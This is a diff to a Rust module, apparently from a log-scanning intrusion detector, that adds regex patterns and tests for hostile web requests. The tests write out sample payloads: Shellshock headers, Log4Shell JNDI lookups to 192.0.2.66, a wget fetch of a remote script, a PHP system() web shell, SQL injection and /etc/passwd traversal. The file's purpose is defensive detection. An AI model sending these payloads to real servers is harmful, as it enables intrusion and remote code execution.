@@ -1,12 +1,13 @@
-//! The pieces that every filter may use: requests to web servers by attackers who look for vulnerabilities.
+//! The pieces that every filter may use: requests to web servers by attackers who look for vulnerabilities, the fields of an access
+//! log, and what loggers write before a message.
 //!
 //! No piece matches a request that a browser, a crawler or a mail program makes, even for a site that is broken or was moved,
 //! such as one for `.DS_Store`, `autodiscover.json` or missing parts of a page. A site's own pages may share a word with a
-//! piece, so every word must be followed by its end, or by the file that makes it hostile. Every alternative has a literal of
+//! piece, so every word must be followed by its end, or by the file that makes it hostile. Every alternative of these pieces has a literal of
 //! three letters or more, so that none of them runs on every line.
 
 /// The built-in pieces, by name. A definition of the filter with the same name takes precedence.
-pub(super) const BUILT_IN: [(&str, &str); 8] = [
+pub(super) const BUILT_IN: [(&str, &str); 15] = [
     ("http-exploit", EXPLOIT),
     ("http-hostile", HOSTILE),
     ("http-probe", PROBE),
@@ -15,7 +16,55 @@ pub(super) const BUILT_IN: [(&str, &str); 8] = [
     ("http-path", PATH),
     ("http-get", GET),
     ("json-value", JSON_VALUE),
+    ("http-injection", INJECTION),
+    ("http-vhost", VHOST),
+    ("http-client", CLIENT),
+    ("http-user", USER),
+    ("http-any-user", ANY_USER),
+    ("http-login", LOGIN),
+    ("logger", LOGGER),
 ];
+
+/// The virtual host before the address in an access log. An address, or `-` for a missing header, is none: in a `LogFormat` with
+/// `%h %{X-Forwarded-For}i` the second word is what the client sent.
+const VHOST: &str = r"[0-9A-Za-z_.*~\-]*[A-Za-z_*~][0-9A-Za-z_.*~\-]*(?::[0-9]{1,5})?";
+
+/// The beginning of a line in an access log: an optional virtual host, the address, and no identity.
+const CLIENT: &str = "(?:<http-vhost> )?<HOST> - ";
+
+/// A user name in an access log. It contains no address and no word `-`: in a `LogFormat` with `%{X-Forwarded-For}i %h` the header
+/// `192.0.2.1 -` would otherwise turn the client's own address into a part of the user name.
+const USER: &str = concat!(
+    r#"(?:[^\s"\[\]:]*[^\s"\[\]:0-9.\-][^\s"\[\]:]*|[0-9]+)"#,
+    r#"(?: +(?:[^\s"\[\]:]*[^\s"\[\]:0-9.\-][^\s"\[\]:]*|[0-9]+))*"#
+);
+
+/// The same, or `-` for none, or a user name in quotes.
+const ANY_USER: &str = r#"(?:-|<http-user>|"[^"\[\]]*")"#;
+
+/// The target of a request to a login, to its end.
+///
+/// A word for a login is a word of its own in the path (`/login`, `/users/sign_in`), in camel case (`/doLogin`, `/loginUser`), or has
+/// a usual prefix or suffix: `catalogInventory` and `bloginfo` only contain the letters. Some applications use another word, or name
+/// the form in the query.
+const LOGIN: &str = concat!(
+    "(?:(?:",
+    r#"(?:/|/[^\s"?]*[^\s"?0-9A-Za-z])(?:(?i:do|user|users|admin|ajax|web|member|customer|client|auth|process|check|api|staff|mobile|account|social|form|page|site|portal|wp|my|app|try|perform|submit|remote|mail|vpn|ldap|sso|local|password|pre|post|is|get)?"#,
+    r#"(?:(?i:login|log[-_]in|signin|sign[-_]in|logon|log[-_]on|authenticate)(?i:s|user|check|post|action|form|process|page|submit|verify|api|ajax|handler|do|byname)?[0-9]*)"#,
+    r#")|/[^\s"?]*[a-z0-9](?:Log[Ii]n|Sign[Ii]n|Log[Oo]n|Authenticate)s?"#,
+    r#"|/(?:[^\s"?]*/)?(?:j_security_check|j_acegi_security_check|api/(?:firstfactor|secondfactor(?:/[a-z0-9\-]{1,40})*)|api2/(?:json|extjs|html)/access/ticket)"#,
+    r#")(?:[^\s"0-9a-z][^\s"]*)?"#,
+    r#"|/[^\s"?]*\?(?:[^\s"]*&)?(?:_task|_action|action|act|do|q|r|route|task|op|page|mode|view|cmd|controller|module|method|func)=(?:[^\s"&]*(?:[/._]|%2f|%2F))?(?i:login|signin|sign_in|logon|authenticate)(?:&[^\s"]*)?"#,
+    ")"
+);
+
+/// What a logger writes before the message of a service: its own time (multilog, s6-log, svlogd, the services' own files), the
+/// facility (Solaris, AIX).
+const LOGGER: &str = concat!(
+    r"(?:@[0-9a-f]{24} |[0-9]{4}-[0-9]{2}-[0-9]{2}[T_ ][0-9:]{8}(?:[.,][0-9]{1,9})?(?:Z| ?[+\-][0-9]{2}:?[0-9]{2})? |",
+    r"[A-Z][a-z]{2} [ 0-9][0-9] (?:[0-9]{4} )?[0-9:]{8}(?:[.,][0-9]{1,9})? )?",
+    r"(?:\[(?:ID [0-9]+ )?[a-z0-9]+\.[a-z]+\]:? )?"
+);
 
 /// The method of a request and the beginning of its path. A piece follows.
 const PATH: &str = r#"(?:GET|POST|HEAD|PUT|OPTIONS|DELETE) (?:https?://[^/\s"]{1,255})?(?:/[^\s"?]*)?"#;
@@ -44,6 +93,9 @@ const EXPLOIT: &str = concat!(
     r"|eval-stdin\.php|invokefunction&|=call_user_func|auto_prepend_file(?:=|%3d)|allow_url_include(?:=|%3d)",
     r"|php(?::|%3a)(?:/|%2f){2}(?:input|filter)|expect://|expect%3a%2f%2f|data://text|data%3a%2f%2ftext|base64_decode(?:\(|%28)",
     r"|=(?:https?|ftp)(?:://|%3a%2f%2f)[^\s&]{1,255}(?:\.txt\?|\.htm\?|\.dat\?)|/timthumb\.php\?(?:[^\s]{1,200}&)?src=http[^\s]{1,200}\.php\b",
+    r"|\.php[0-9]?\?(?:-|%2d|%ad)[a-z](?:[+&%\s]|$)|/\?-s[+% ]|/\?-d[+% ]|/\?%2d[sd][+% ]|/\?%add[+% ]",
+    // Shellshock.
+    r"|\(\) \{|\(\)\{|\(\)\+\{|\(\)%20\{|\(\)%20%7b|%28%29%20%7b|%28%29\+%7b",
     r"|/_ignition/execute-solution|element_parents=account|think(?:\\|%5c|/|\\x5c)app",
     // SQL and scripts, in forms that do not occur in a search for these words.
     r"|union(?:\+|%20|/\*\*/|%0a)+(?:all(?:\+|%20|/\*\*/)+)?select(?:\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat|0x[0-9a-f]+|@@[a-z]+|\*|[a-z_.]+)(?:,|%2c|\(|%28|(?:\+|%20)from(?:\+|%20))",
@@ -56,10 +108,25 @@ const EXPLOIT: &str = concat!(
     ")"
 );
 
+/// An attack in a header (User-Agent, Referer), whatever the answer is. A page that quotes such text in its address is a referrer,
+/// too, so only forms that work as an attack match.
+const INJECTION: &str = concat!(
+    "(?i:",
+    r"\$\{jndi:|\$#7bjndi|\$\\x7bjndi|%24%7bjndi|\$%7bjndi|\$\{(?:lower|upper|env|sys|date):|\$#7b(?:lower|upper|env):|\$\{::-|\$\{\$\{|%24%7b%24%7b",
+    r"|\(\) \{|\(\)\{|\(\) #7b|\(\) \\x7b",
+    r"|(?:;|\||`|&&|\$\()[ +]*(?:wget|curl|tftp|busybox)[ +]+(?:-[a-z0-9]+[ +]+)*(?:https?|ftp)://|/bin/(?:ba)?sh -[ci]",
+    r"|<\?php|<\?=|eval\(base64|base64_decode\(|jdatabasedriver|auto_prepend_file|php://input",
+    r"|pg_sleep\(|waitfor delay|benchmark\([0-9]{4}|sleep\([0-9]{1,3}\)|extractvalue\(|updatexml\(|' or '?1'?='?1",
+    r"|union(?: |\+|%20|/\*\*/)+(?:all(?: |\+|%20|/\*\*/)+)?select(?: |\+|%20|/\*\*/)+(?:null|[0-9]+|char|concat)(?:,|%2c|\()",
+    r"|<script[^>]{0,40}>(?:alert|prompt|confirm|document)|\.\./\.\./\.\./",
+    ")"
+);
+
 /// An attack if the request was refused, anywhere in it.
 const HOSTILE: &str = concat!(
     "(?i:",
-    r"\.\./\.\./|%2e%2e(?:/|%2f|%5c)|\.%2e/|%2e\./|\.\.%2f\.\.%2f|\.\.%5c\.\.|%252e%252e|%c0%ae|%c0%af|%%32%65",
+    // A page may contain links with `../../`, so only those in a parameter count.
+    r"[=&]/?\.\./\.\./|%2e%2e(?:/|%2f|%5c)|\.%2e/|%2e\./|\.\.%2f\.\.%2f|\.\.%5c\.\.|%252e%252e|%c0%ae|%c0%af|%%32%65",
     r"|(?:/|%2f)etc(?:/|%2f)(?:passwd|shadow)\b|/proc/self\b|/win\.ini\b|/boot\.ini\b",
     r"|<script|%3cscript|%0d%0aset-cookie|%00\.|rest_route=/wp/v2/users",
     ")"
@@ -100,7 +167,7 @@ const PROBE: &str = concat!(
 const GUESS: &str = concat!(
     "(?i:(?:/php-?my-?admin[0-9._\\-]{0,12}|/pma[0-9._\\-]{0,12}|/myadmin|/mysql-?admin|/mysqlmanager|/db-?admin|/sqlmanager|/sqlweb|/websql|/phppgadmin|/pgadmin[0-9]?|/phpldapadmin",
     "|/adminer[0-9._\\-]{0,16}(?:\\.php)?|/v?-?webmail[0-9]?|/mails?|/extmail|/roundcube(?:mail)?|/horde[0-9]?|/squirrelmail|/rainloop|/snappymail|/owa|/exchange|/zimbra|/geoserver/web",
-    "|/wp-login\\.php|/wp-admin(?:\\.php)?|/wp-signup\\.php|/wordpress|/xmlrpc\\.php|/administrator|/info\\.php|/test\\.php|/admin/config\\.php|/server-status|/server-info|/cgi-bin/[^\\s?,'\"]{0,200})(?:/|/index\\.php)?)"
+    "|/wp-login\\.php|/wp-admin(?:\\.php)?|/wp-signup\\.php|/wordpress|/xmlrpc\\.php|/administrator|/info\\.php|/test\\.php|/admin/config\\.php|/cgi-bin/[^\\s?,'\"]{0,200})(?:/|/index\\.php)?)"
 );
 
 /// Names of attack tools in the User-Agent header.
@@ -122,7 +189,7 @@ mod tests {
 
     #[test]
     fn every_alternative_has_a_literal() {
-        let lists = BUILT_IN.iter().filter(|(name, _)| !["http-path", "http-get", "json-value"].contains(name));
+        let lists = BUILT_IN.iter().filter(|(_, piece)| piece.starts_with("(?i:"));
         for (name, piece) in lists {
             let all = hir(piece);
             let mut count = 0;
@@ -178,8 +245,26 @@ mod tests {
             "/a.php?page=http://192.0.2.9/shell.txt??",
             "/autodiscover/autodiscover.json?@x.com/mapi/nspi/?&Email=x",
             "/w00tw00t.at.ISC.SANS.DFind:)",
+            "/index.php?-s HTTP/1.1",
+            "/?-d+allow_url_include%3don HTTP/1.1",
+            "/cgi-bin/x?a=()%20%7b%20:;%7d;",
         ] {
             assert!(matches(EXPLOIT, target), "{target}");
+        }
+        for header in [
+            "() { :;};/usr/bin/perl -e x",
+            "() { ignored; }; /bin/bash -c id",
+            "${jndi:ldap://192.0.2.66:1389/a}",
+            "${${lower:j}ndi:rmi://a}",
+            "Mozilla/5.0; wget http://192.0.2.9/a.sh",
+            "<?php system($_GET[0]); ?>",
+            "' or '1'='1",
+            "1' AND SLEEP(5)--",
+            "-1' union select 1,2,3--",
+            "<script>alert(1)</script>",
+            "../../../etc/passwd",
+        ] {
+            assert!(matches(INJECTION, header), "{header}");
         }
         for target in [
             "/.env",
@@ -220,6 +305,42 @@ mod tests {
             "/adminer-4.8.1.php",
         ] {
             assert!(matches_request(&format!("{GUESS}(?:\\?[^\\s]*)? HTTP/"), target), "{target}");
+        }
+    }
+
+    #[test]
+    fn a_login_is_a_word_of_its_own() {
+        let is_login = |target: &str| matches(&format!("^{LOGIN} HTTP"), &format!("{target} HTTP/1.1"));
+        for target in [
+            "/login",
+            "/login.php?x",
+            "/api/v1/login/",
+            "/users/sign_in",
+            "/doLogin",
+            "/loginUser",
+            "/userlogin",
+            "/admin_login.php",
+            "/Account/Login?ReturnUrl=%2F",
+            "/Users/AuthenticateByName",
+            "/j_security_check",
+            "/api/secondfactor/totp",
+            "/?_task=login",
+            "/index.php?option=com_users&task=user.login",
+        ] {
+            assert!(is_login(target), "{target}");
+        }
+        for target in [
+            "/rest/V1/catalogInventory",
+            "/api/bloginfo",
+            "/ui/dialogInput",
+            "/logInventory",
+            "/analogin",
+            "/technologInsight",
+            "/blogin-post",
+            "/?next=/login",
+            "/?q=how+to+login",
+        ] {
+            assert!(!is_login(target), "{target}");
         }
     }
 
@@ -267,6 +388,10 @@ mod tests {
             "/processing?windows=1",
             "/mailman/listinfo/users",
             "/owa-guide",
+            "/server-status?auto",
+            "/docs/path/../../img.png",
+            "/index.php?-",
+            "/search?q=f()+x",
         ] {
             let path = format!("{GUESS}(?:\\?[^\\s]*)? HTTP/");
             assert!(!matches(EXPLOIT, target), "exploit: {target}");
@@ -281,6 +406,16 @@ mod tests {
             "Googlebot/2.1",
         ] {
             assert!(!matches(SCANNER, agent), "{agent}");
+            assert!(!matches(INJECTION, agent), "{agent}");
+        }
+        for referrer in [
+            "https://example.org/search?q=how+to+use+union+all+select+in+sql",
+            "https://example.org/search?q=etc/passwd",
+            "https://example.org/blog/what-is-jndi-ldap",
+            "https://example.org/a?next=/b/../c",
+            "Mozilla/5.0 (compatible; curl/8.5; wget)",
+        ] {
+            assert!(!matches(INJECTION, referrer), "{referrer}");
         }
     }
 }
